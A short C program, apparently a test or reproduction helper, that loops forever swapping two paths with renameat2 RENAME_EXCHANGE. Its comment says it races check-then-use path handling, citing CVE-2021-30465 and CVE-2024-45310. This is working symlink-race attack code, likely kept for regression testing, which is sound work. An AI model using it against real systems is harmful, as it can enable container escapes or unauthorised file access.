/*
 * path-flip A B: exchanges the two names again and again, until it is killed. With a directory and
 * a symbolic link it hits who looks at a path and then uses it, CVE-2021-30465, CVE-2024-45310.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <time.h>

int main(int argc, char **argv)
{
	/* Short against one mount, and the machine still has time for others. */
	const struct timespec pause = {.tv_nsec = 20000};

	if (argc != 3)
		return 2;
	for (;;) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0)
			return 1;
		nanosleep(&pause, NULL);
	}
}
